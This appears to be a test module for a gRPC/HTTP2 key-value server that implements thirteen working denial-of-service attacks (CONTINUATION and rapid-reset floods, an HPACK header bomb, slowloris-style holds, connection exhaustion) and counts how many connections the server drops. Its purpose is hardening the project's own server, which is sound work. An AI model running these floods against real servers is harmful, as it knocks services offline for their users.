"""Clients that attack a server: `-m tests.wire.attackers NAME,NAME HOST:PORT SECONDS`.

Each attack lasts so long. Prints as JSON how many of its connections the server has ended.
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import islice

from hpack import Encoder

from shalekv.v1 import kv_pb2
from shalekv_wire import frames

LARGE_KEY = b"large"  # whose value has a megabyte
CALLS = 200  # of a connection: less than a server's limit
BATCH = 100  # pieces of a flood that are sent at once
HOLDERS = 50  # connections that are held at once
END = frames.END_STREAM
GET, PUT, SCAN, WATCH, SESSION = (
    f"/shalekv.v1.KV/{name}" for name in ("Get", "Put", "Scan", "Watch", "Session")
)
Attack = Callable[["Target"], None]


class Target:
    """The server, the time that is left, and what it did to us."""

    def __init__(self, address: str, seconds: float) -> None:
        host, _, port = address.rpartition(":")
        self._address = host, int(port)
        self._ends_s = time.monotonic() + seconds
        self.ended = 0  # connections that the server has closed

    @property
    def is_open(self) -> bool:
        return time.monotonic() < self._ends_s

    def open(self) -> socket.socket:
        sock = socket.create_connection(self._address, timeout=5)
        sock.settimeout(0.5)  # a server that takes no more is not waited for
        return sock

    def connect(self, settings: dict[int, int] | None = None) -> socket.socket:
        sock = self.open()
        sock.sendall(frames.PREFACE + frames.settings_frame(settings or {}))
        return sock

    def flood(self, pieces: Iterator[bytes], settings: dict[int, int] | None = None) -> None:
        """Send pieces on one connection until it ends; replies are not read."""
        with self.connect(settings) as sock:
            try:
                while piece := b"".join(islice(pieces, BATCH)):
                    sock.sendall(piece)
                    if not self.is_open:
                        return
            except TimeoutError:
                return
            except OSError:
                self.ended += 1

    def repeat(self, pieces: Callable[[], Iterator[bytes]]) -> None:
        while self.is_open:
            self.flood(pieces())

    def hold(self, socks: list[socket.socket]) -> None:
        """Keep connections until the time is over, and count those that are ended."""
        while self.is_open and socks:
            readable, _, _ = select.select(socks[:1000], [], [], 0.1)
            for sock in readable:
                with suppress(OSError):
                    sock.recv(16)  # slowly: what comes stays with the server
        for sock in socks:
            try:
                sock.settimeout(0)
                while sock.recv(1 << 20):
                    pass
                self.ended += 1
            except BlockingIOError:
                pass
            except OSError:
                self.ended += 1
            sock.close()


def header(path: str, *more: tuple[str, str]) -> bytes:
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a")]
    fields += [("te", "trailers"), ("content-type", "application/grpc"), *more]
    encoder = Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields, huffman=False)


def call(stream_id: int, path: str, request: bytes) -> bytes:
    """A call with one request, which ends."""
    message = b"\0" + len(request).to_bytes(4, "big") + request
    return frames.header_frames(header(path), 0, stream_id) + frames.frame(
        frames.DATA, END, stream_id, message
    )


def stream_ids() -> Iterator[int]:
    return iter(range(1, frames.WINDOW_MAX, 2))


def continuations(target: Target) -> None:
    """Header blocks without end: of large frames, and of empty ones."""

    def large() -> Iterator[bytes]:
        yield frames.frame(frames.HEADERS, 0, 1, header(GET))
        while True:
            yield frames.frame(frames.CONTINUATION, 0, 1, bytes(16_000))

    def empty() -> Iterator[bytes]:
        yield frames.frame(frames.HEADERS, 0, 1, header(GET))
        while True:
            yield frames.frame(frames.CONTINUATION, 0, 1) * 10

    while target.is_open:
        target.flood(large())
        target.flood(empty())


def rapid_resets(target: Target) -> None:
    """Calls that are reset at once: by us, and by what makes the server do it."""
    request = kv_pb2.ScanRequest().SerializeToString()

    def ours() -> Iterator[bytes]:
        for stream_id in stream_ids():
            yield call(stream_id, SCAN, request) + frames.reset_frame(
                stream_id, frames.ErrorCode.CANCEL
            )

    def made() -> Iterator[bytes]:
        for stream_id in stream_ids():
            yield call(stream_id, SCAN, request) + frames.window_update(stream_id, 0)

    while target.is_open:
        target.flood(ours())
        target.flood(made())


def pings(target: Target) -> None:
    """Pings whose answers are not read."""

    def pieces() -> Iterator[bytes]:
        while True:
            yield frames.frame(frames.PING, 0, 0, b"12345678") * 10

    target.repeat(pieces)


def settings(target: Target) -> None:
    """Settings that change back and forth."""

    def pieces() -> Iterator[bytes]:
        while True:
            small = frames.settings_frame({frames.INITIAL_WINDOW_SIZE: 1})
            large = frames.settings_frame({frames.INITIAL_WINDOW_SIZE: 1 << 20})
            yield (small + large) * 5

    target.repeat(pieces)


def refusals(target: Target) -> None:
    """Calls of methods that are not there; the answers are larger, and are not read."""

    def pieces() -> Iterator[bytes]:
        for stream_id in stream_ids():
            yield frames.header_frames(header("/a/B"), END, stream_id)

    target.repeat(pieces)


def zero_windows(target: Target) -> None:
    """Large gets by clients who let the server send nothing."""
    request = kv_pb2.GetRequest(key=LARGE_KEY).SerializeToString()
    socks = []
    for _ in range(HOLDERS):
        sock = target.connect({frames.INITIAL_WINDOW_SIZE: 0})
        socks.append(sock)
        with suppress(OSError):
            sock.sendall(b"".join(call(2 * n + 1, GET, request) for n in range(CALLS)))
    target.hold(socks)


def slow_readers(target: Target) -> None:
    """Large gets and scans by clients with open windows who read nothing."""
    get = kv_pb2.GetRequest(key=LARGE_KEY).SerializeToString()
    scan = kv_pb2.ScanRequest().SerializeToString()
    socks = []
    for number in range(HOLDERS):
        sock = target.connect({frames.INITIAL_WINDOW_SIZE: frames.WINDOW_MAX})
        socks.append(sock)
        calls = [
            call(2 * n + 1, *((SCAN, scan) if number % 8 == 0 else (GET, get)))
            for n in range(CALLS)
        ]
        with suppress(OSError):
            sock.sendall(frames.window_update(0, 1 << 30) + b"".join(calls))
    target.hold(socks)


def half_prefaces(target: Target) -> None:
    """Connections that never say what they are."""
    socks = [target.connect() for _ in range(1)]
    for _ in range(10 * HOLDERS):
        sock = target.open()
        sock.sendall(frames.PREFACE[:12])
        socks.append(sock)
    target.hold(socks)


def large_headers(target: Target) -> None:
    """Header lists of 100,000 bytes, and of 20,000."""

    def pieces(block: bytes) -> Iterator[bytes]:
        for stream_id in stream_ids():
            yield frames.header_frames(block, END, stream_id)

    blocks = [header(GET, *((f"x-{n}", "v" * 5_000) for n in range(count))) for count in (4, 20)]
    while target.is_open:
        for block in blocks:
            target.flood(pieces(block))


def header_bombs(target: Target) -> None:
    """A block of 16,000 bytes whose list has 64 megabytes."""
    bomb = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4_000 + b"\xbe" * 12_000

    def pieces() -> Iterator[bytes]:
        while True:
            yield frames.header_frames(bomb, END, 1)

    target.repeat(pieces)


def slow_drips(target: Target) -> None:
    """Messages of 4 megabytes that stay incomplete, and compressed ones that are zeros."""
    socks = []
    prefix = b"\0" + (4_000_000).to_bytes(4, "big")
    for _ in range(HOLDERS):
        sock = target.connect()
        socks.append(sock)
        with suppress(OSError):
            for n in range(CALLS):
                sock.sendall(frames.header_frames(header(PUT), 0, 2 * n + 1))
                piece = (prefix + bytes(16_000))[:16_000]
                for _ in range(15):  # as far as the window of the stream goes
                    sock.sendall(frames.frame(frames.DATA, 0, 2 * n + 1, piece))
                    piece = bytes(16_000)
                if not target.is_open:
                    break
    while target.is_open:
        for sock in socks:
            with suppress(OSError):
                sock.sendall(frames.frame(frames.DATA, 0, 1, b"\0"))
    target.hold(socks)


def unread_messages(target: Target) -> None:
    """Sessions and watches with thousands of messages of two bytes."""
    message = b"\0\0\0\0\x02\x00\x00"

    def pieces() -> Iterator[bytes]:
        for stream_id in range(1, 2 * CALLS, 2):
            yield frames.header_frames(
                header(SESSION if stream_id % 4 == 1 else WATCH), 0, stream_id
            )
            yield frames.frame(frames.DATA, 0, stream_id, message * 2_000) * 4

    target.repeat(pieces)


def connections(target: Target) -> None:
    """As many connections as there are file descriptors, up to 5,000; each makes one call."""
    request = kv_pb2.GetRequest(key=b"small").SerializeToString()
    socks = []
    for _ in range(5_000):
        sock = target.connect()
        sock.sendall(call(1, GET, request))
        socks.append(sock)
    target.hold(socks)


ATTACKS: dict[str, Attack] = {
    each.__name__: each
    for each in (
        continuations,
        rapid_resets,
        pings,
        settings,
        refusals,
        zero_windows,
        slow_readers,
        half_prefaces,
        large_headers,
        header_bombs,
        slow_drips,
        unread_messages,
        connections,
    )
}


if __name__ == "__main__":
    ended = {}
    for name in sys.argv[1].split(","):
        victim = Target(sys.argv[2], float(sys.argv[3]))
        ATTACKS[name](victim)
        ended[name] = victim.ended
    sys.stdout.write(json.dumps(ended))
